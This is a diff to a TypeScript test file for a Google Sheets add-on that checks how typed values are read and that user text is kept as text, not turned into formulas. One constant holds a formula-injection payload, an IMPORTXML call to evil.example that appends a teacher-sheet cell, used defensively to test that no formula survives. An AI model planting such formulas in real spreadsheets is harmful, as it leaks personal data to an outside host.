@@ -14,6 +14,28 @@ const ATTACK = '=IMPORTXML("https://evil.example/?"&Педагоги!B2; "//a")'
 const formulas = (env: AddonEnv) =>
   env.ss.sheets.flatMap((sheet) => [...sheet.grid.formulas].map(([at, f]) => `${sheet.name}!${at} = ${f}`));
 
+describe("a normal cell reads written text as typed", () => {
+  test("«001» → 1, «1,5» → 1.5, «50%» → 0.5, «TRUE» → true, «2026-09-01» and «01.09.2026» → dates, «+7 дней» → a formula; an apostrophe or a plain-text cell keeps the text", async () => {
+    const env = loadAddon(await builtAddon(), [{ name: "Лист1", rows: [] }]);
+    const typed = ["001", "1,5", "50%", "TRUE", "2026-09-01", "01.09.2026", "+7 дней", "текст"];
+    const read = env.evaluate(`(() => {
+      const sheet = SpreadsheetApp.getActive().getSheets()[0];
+      const typed = ${JSON.stringify(typed)};
+      sheet.getRange(1, 1, 1, typed.length).setValues([typed]);
+      sheet.getRange(2, 1, 1, typed.length).setValues([typed.map((t) => "'" + t)]);
+      sheet.getRange(3, 1, 1, typed.length).setNumberFormat("@").setValues([typed]);
+      return JSON.stringify(sheet.getRange(1, 1, 3, typed.length).getValues());
+    })()`) as string;
+    const [asTyped, quoted, plain] = JSON.parse(read) as unknown[][];
+    expect(asTyped!.slice(0, 4)).toEqual([1, 1.5, 0.5, true]);
+    expect(asTyped!.slice(4, 6).map((d) => String(d).slice(0, 10))).toEqual(["2026-08-31", "2026-08-31"]); // Moscow midnight in UTC
+    expect([asTyped![6], asTyped![7]]).toEqual(["", "текст"]);
+    expect(formulas(env)).toEqual(["Лист1!1:7 = +7 дней"]);
+    expect(quoted).toEqual(typed);
+    expect(plain).toEqual(typed);
+  });
+});
+
 describe("texts stay texts", () => {
   test("a catalogue title, a hand-edited route, the municipality's name: every writer keeps them as text", async () => {
     const sheets = sampleSheets();
@@ -33,13 +55,17 @@ describe("texts stay texts", () => {
     expect(column(iom, "Мероприятие")).toEqual(expect.arrayContaining([ATTACK, "+7 дней практики"]));
     expect(formulas(env)).toEqual([]);
     iom.grid.setValue(3, 8, "-снят по просьбе педагога"); // a methodist's note, kept on regeneration
+    // Notes Sheets would read as a percent, a date or a boolean if written back without the apostrophe.
+    iom.grid.setValue(4, 8, "50%");
+    iom.grid.setValue(5, 8, "2026-09-01");
+    iom.grid.setValue(6, 8, "TRUE");
     env.call("runAction", "routes", { regenerate: true });
     env.call("runAction", "kpis");
     env.call("runAction", "check");
 
     expect(formulas(env)).toEqual([]);
     expect(column(iom, "Мероприятие")).toEqual(
-      expect.arrayContaining(["+7 дней практики", "-снят по просьбе педагога"]),
+      expect.arrayContaining(["+7 дней практики", "-снят по просьбе педагога", "50%", "2026-09-01", "TRUE"]),
     );
     expect(column(iom, "Код")).toEqual(expect.arrayContaining(["001", "002"]));
     expect(env.ss.sheet("Настройки").dump()).toContainEqual([
